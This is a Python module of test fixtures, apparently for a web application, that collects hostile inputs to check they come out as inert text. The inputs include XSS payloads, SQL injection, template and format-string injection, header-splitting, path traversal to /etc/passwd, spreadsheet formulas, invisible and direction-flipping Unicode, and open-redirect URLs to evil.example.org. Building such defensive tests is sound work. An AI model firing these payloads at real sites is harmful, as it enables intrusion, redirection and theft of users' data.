"""Words that people with bad intentions type. Wherever they come out they are text, as they were typed."""

ATTACKS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "picture": "<img src=x onerror=alert(1)>",
    "vector picture": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example.org"></iframe>',
    "out of an attribute": '" autofocus onfocus=alert(1) x="',
    "out of a quoted attribute": "' onmouseover='alert(1)",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a text": "</textarea></title></style></noscript><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of a text in JavaScript": "';alert(1);//\\';alert(1);//",
    "template in JavaScript": "${alert(1)}`",
    "address": "javascript:alert(1)",
    "hidden address": "java\tscript:alert(1)//https://example.org",
    "data address": "data:text/html,<script>alert(1)</script>",
    "link": "https://example.org/\"onclick=alert(1)//<b>'x",
    "style": "</style><style>*{background:url(https://evil.example.org/x)}",
    "form": '<form action="https://evil.example.org"><input name=q><button>Go</button></form>',
    "htmx": '<div hx-get="https://evil.example.org" hx-trigger="load" data-hx-get="/logout/"></div>',
    "clobbering": '<a id=csrfToken name=forms></a><img name=cookie id="body">',
    "base": '<base href="https://evil.example.org/"><meta http-equiv=refresh content="0;url=//evil.example.org">',
    "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &colon; &NewLine;",
    "template": "{{ 7*7 }}{% debug %}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s %(password)s {0} {settings.SECRET_KEY} %n %x {user.password}",
    "slots": "\\0a \\u0000a {{slot}} $1 \\1 \\g<0>",
    "header": "a%0d%0aSet-Cookie: evil=1",
    "database": "'; DROP TABLE accounts_user; -- \" ) OR 1=1 /*",
    "pattern": "%_\\%' & | ! :* <-> (((",
    "path": "../../../../etc/passwd",
    "formula": '=HYPERLINK("https://evil.example.org","x")',
    "other formulas": '+1+1 -1-1 @SUM(1) |cmd "=1',
    "JSON": '{"__proto__":{"x":1},"a":"\\u003cscript\\u003e"}',
    "mention and tag": "@<b>x #<i>y #kiln@boris http://<script>",
    "right to left": "\u0639\u0631\u0628\u064a abc \u05e9\u05dc\u05d5\u05dd",
    "joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "flags and accents": "Zo\u0308e e\u0301\u0302\u0303\u0304 \U0001f1f1\U0001f1f9 \u1e9e \u01c4",
    "planes": "\U00020000 \U0001d54f \ufdfd \ufffd",
    "one long word": "W" * 300,
}

# Text that turns the reading direction of what stands beside it, or that nobody sees.
UNSEEN: dict[str, str] = {
    "turned": "gpj.\u202eexe",
    "isolated": "\u2066abc\u2067def",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ad",
    "line ends": "a\u2028b\u2029c\x85d",
    "breaks": "a\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
}

# Not text at all: refused, or taken out, and never an error of ours.
BROKEN: dict[str, str] = {"nothing": "a\x00b", "control": "a\x1b[31mb\x07", "half a sign": "a\ud800b"}

# One text with all that could break out of anything, for fields that take it whole.
EVERYTHING = " ".join(
    ATTACKS[name] for name in ("out of a text", "out of an attribute", "picture", "template", "format", "joined")
)

# Values of parameters in addresses.
PARAMETERS: dict[str, str] = {
    "empty": "",
    "nothing": "\x00",
    "nothing inside": "a\x00b",
    "huge number": "9" * 400,
    "number": "1000000000",
    "negative": "-1",
    "smallest": "-9223372036854775809",
    "fraction": "1e400",
    "not a number": "NaN",
    "other digits": "\u0661\u0662\u00b2",
    "long": "x" * 10_240,
    "markup": "<script>alert(1)</script>",
    "database": "'; DROP TABLE accounts_user; --",
    "braces": "{{7*7}}%s{0}",
    "broken signs": "\ufffd\udcff".encode("utf-8", "surrogatepass").decode("latin-1"),
    "breaks": "a\r\nSet-Cookie: evil=1",
}

# Where `next` must never lead.
ELSEWHERE: tuple[str, ...] = (
    "https://evil.example.org/",
    "http://evil.example.org",
    "//evil.example.org",
    "///evil.example.org",
    "////evil.example.org/%2f..",
    "/\\evil.example.org",
    "\\\\evil.example.org",
    "\\/evil.example.org",
    "https:evil.example.org",
    "https:/evil.example.org",
    "HTTPS://EVIL.EXAMPLE.ORG",
    "/\t/evil.example.org",
    "\t//evil.example.org",
    "/\n/evil.example.org",
    "\r\n//evil.example.org",
    " //evil.example.org",
    "\x00//evil.example.org",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "ftp://evil.example.org",
    "evil.example.org",
    "@evil.example.org",
    "https://testserver@evil.example.org/",
    "https://testserver.evil.example.org/",
    "//testserver%40evil.example.org",
    "/" + "x" * 10_240,
    "\u2215\u2215evil.example.org",
    "\uff0f\uff0fevil.example.org",
)
